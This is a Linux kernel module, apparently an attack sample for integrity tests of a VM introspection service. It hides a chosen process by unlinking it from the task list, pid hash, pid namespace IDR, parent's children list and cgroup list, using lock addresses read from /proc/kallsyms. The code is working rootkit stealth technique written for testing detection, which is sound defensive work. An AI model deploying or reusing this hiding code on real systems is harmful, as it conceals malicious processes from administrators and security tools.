// SPDX-License-Identifier: GPL-2.0
/*
 * vmiaas_attack_hideproc: process hiding, for the integrity tests.
 * Unlinks the task of @pid (a thread-group leader) from the task list
 * (init_task.tasks), the classic technique: for_each_process() no longer
 * sees it, while its struct pid stays in the pid namespace's IDR.
 *
 * tasklist_lock is not exported; its address comes from /proc/kallsyms
 * (tasklist=0x...). After unlinking, once RCU readers are done, the
 * node points at itself, so the task's own exit (__unhash_process())
 * unlinks it harmlessly. Unloading puts the task back if it still lives.
 *
 * mode=idr also takes the task off its struct pid (the pid namespace's
 * IDR entry): pid_links[PIDTYPE_PID] is unhashed from pid->tasks, as
 * rootkits do to defeat pid lookups (kill, /proc/PID, find_vpid() all
 * stop finding it) while the task keeps running. The node is then made
 * to point at itself (next NULL, pprev at its own next) so that
 * detach_pid() at exit unhashes it harmlessly; unloading hashes it back.
 *
 * mode=pidfree does all that and also erases the struct pid from the pid
 * namespace's IDR (pidmap_lock's address: pidmap=0x...): the number stays
 * reserved (a NULL entry, as alloc_pid() leaves it before the task is
 * attached), so it is not reused and free_pid() at exit releases it as
 * usual, but nothing that walks or looks up the IDR finds it. Meant for a
 * sleeping process: no source but its parent's children list is left.
 * Unloading puts the entry back.
 *
 * mode=tree does all that and also takes the task off its parent's
 * children list (its sibling node made to point at itself, so that
 * __unhash_process() at exit unlinks it harmlessly): wait() and the
 * process tree no longer see it. Only its css_set's task list (cg_list)
 * is left. Unloading puts it back on its parent's children list.
 *
 * mode=cgroup does all that and also takes the task off its css_set's
 * task list (cg_list, under css_set_lock, not exported: csslock=0x...):
 * no list of tasks is left at all. What still names the task is its
 * kernel stack, run queues while it runs, timers and wait queues while it
 * sleeps. Unloading puts it back on its css_set's list; until then the
 * task must not exit (cgroup_exit() warns on an unlinked cg_list).
 */
#define pr_fmt(fmt) KBUILD_MODNAME ": " fmt

#include <linux/cgroup.h>
#include <linux/idr.h>
#include <linux/init.h>
#include <linux/kernel.h>
#include <linux/module.h>
#include <linux/moduleparam.h>
#include <linux/pid.h>
#include <linux/pid_namespace.h>
#include <linux/rculist.h>
#include <linux/sched.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>
#include <linux/spinlock.h>
#include <linux/string.h>

static int pid;
module_param(pid, int, 0444);
MODULE_PARM_DESC(pid, "process to hide");

static unsigned long tasklist;
module_param(tasklist, ulong, 0444);
MODULE_PARM_DESC(tasklist, "address of tasklist_lock (from /proc/kallsyms)");

static unsigned long pidmap;
module_param(pidmap, ulong, 0444);
MODULE_PARM_DESC(pidmap, "address of pidmap_lock (from /proc/kallsyms), for mode=pidfree");

static unsigned long csslock;
module_param(csslock, ulong, 0444);
MODULE_PARM_DESC(csslock, "address of css_set_lock (from /proc/kallsyms), for mode=cgroup");

static char *mode = "list";
module_param(mode, charp, 0444);
MODULE_PARM_DESC(mode, "list: off the task list; idr: also off its struct pid; pidfree: also out of the IDR; tree: also off its parent's children list; cgroup: also off its css_set's list");

static struct task_struct *victim;
static struct pid *victim_pid;
static bool pid_erased;

/* The IDR entry of @p in its own namespace, NULL to erase it. */
static void *idr_set(struct pid *p, struct pid *entry)
{
	struct upid *upid = &p->numbers[p->level];
	spinlock_t *lock = (spinlock_t *)pidmap;
	void *old;

	spin_lock_irq(lock);
	old = idr_replace(&upid->ns->idr, entry, upid->nr);
	spin_unlock_irq(lock);
	return old;
}

static bool mode_is(const char *m)
{
	return !strcmp(mode, m);
}

/* Off @node's list, once RCU readers are done pointing at itself. */
static void list_unlink(rwlock_t *lock, struct list_head *node)
{
	write_lock_irq(lock);
	list_del_rcu(node);
	write_unlock_irq(lock);
	synchronize_rcu();
	write_lock_irq(lock);
	INIT_LIST_HEAD(node);
	write_unlock_irq(lock);
}

static int __init vmiaas_attack_hideproc_init(void)
{
	rwlock_t *lock = (rwlock_t *)tasklist;
	struct pid *p;

	bool erase = mode_is("pidfree") || mode_is("tree") || mode_is("cgroup");

	if (pid <= 1 || !tasklist ||
	    !(mode_is("list") || mode_is("idr") || erase) ||
	    (erase && !pidmap) || (mode_is("cgroup") && !csslock))
		return -EINVAL;
	p = find_get_pid(pid);
	victim = p ? get_pid_task(p, PIDTYPE_PID) : NULL;
	if (!victim) {
		put_pid(p);
		return -ESRCH;
	}
	if (!thread_group_leader(victim)) {
		put_task_struct(victim);
		put_pid(p);
		return -EINVAL;
	}
	victim_pid = p;		/* the reference is kept until unload */
	list_unlink(lock, &victim->tasks);
	pr_info("pid %d (%s) unlinked from the task list\n", pid, victim->comm);
	if (!mode_is("list")) {
		write_lock_irq(lock);
		hlist_del_rcu(&victim->pid_links[PIDTYPE_PID]);
		write_unlock_irq(lock);
		synchronize_rcu();
		write_lock_irq(lock);
		victim->pid_links[PIDTYPE_PID].next = NULL;
		victim->pid_links[PIDTYPE_PID].pprev =
			&victim->pid_links[PIDTYPE_PID].next;
		write_unlock_irq(lock);
		pr_info("pid %d (%s) unlinked from its struct pid\n", pid,
			victim->comm);
	}
	if (erase) {
		pid_erased = idr_set(victim_pid, NULL) == victim_pid;
		pr_info("pid %d (%s) %s the IDR\n", pid, victim->comm,
			pid_erased ? "erased from" : "not found in");
	}
	if (mode_is("tree") || mode_is("cgroup")) {
		list_unlink(lock, &victim->sibling);
		pr_info("pid %d (%s) unlinked from its parent's children list\n",
			pid, victim->comm);
	}
	if (mode_is("cgroup")) {
		spin_lock_irq((spinlock_t *)csslock);
		list_del_init(&victim->cg_list);
		spin_unlock_irq((spinlock_t *)csslock);
		pr_info("pid %d (%s) unlinked from its css_set's task list\n",
			pid, victim->comm);
	}
	return 0;
}

static void __exit vmiaas_attack_hideproc_exit(void)
{
	rwlock_t *lock = (rwlock_t *)tasklist;

	struct hlist_node *link = &victim->pid_links[PIDTYPE_PID];

	/* Back in the IDR while the number is still reserved for it. */
	if (pid_erased && pid_alive(victim) && task_pid(victim) == victim_pid)
		idr_set(victim_pid, victim_pid);
	write_lock_irq(lock);
	if (pid_alive(victim) && list_empty(&victim->tasks))
		list_add_tail_rcu(&victim->tasks, &init_task.tasks);
	if ((mode_is("tree") || mode_is("cgroup")) && pid_alive(victim) &&
	    list_empty(&victim->sibling))
		list_add_tail(&victim->sibling, &victim->real_parent->children);
	/* Hashed back only while it still points at itself and lives. */
	if (pid_alive(victim) && link->pprev == &link->next &&
	    task_pid(victim) == victim_pid)
		hlist_add_head_rcu(link, &victim_pid->tasks[PIDTYPE_PID]);
	write_unlock_irq(lock);
	if (mode_is("cgroup") && pid_alive(victim)) {
		spin_lock_irq((spinlock_t *)csslock);
		if (list_empty(&victim->cg_list))
			list_add_tail(&victim->cg_list,
				      &rcu_dereference_raw(victim->cgroups)->tasks);
		spin_unlock_irq((spinlock_t *)csslock);
	}
	put_task_struct(victim);
	put_pid(victim_pid);
}

module_init(vmiaas_attack_hideproc_init);
module_exit(vmiaas_attack_hideproc_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("vmiaas test: hiding a process from the task list");
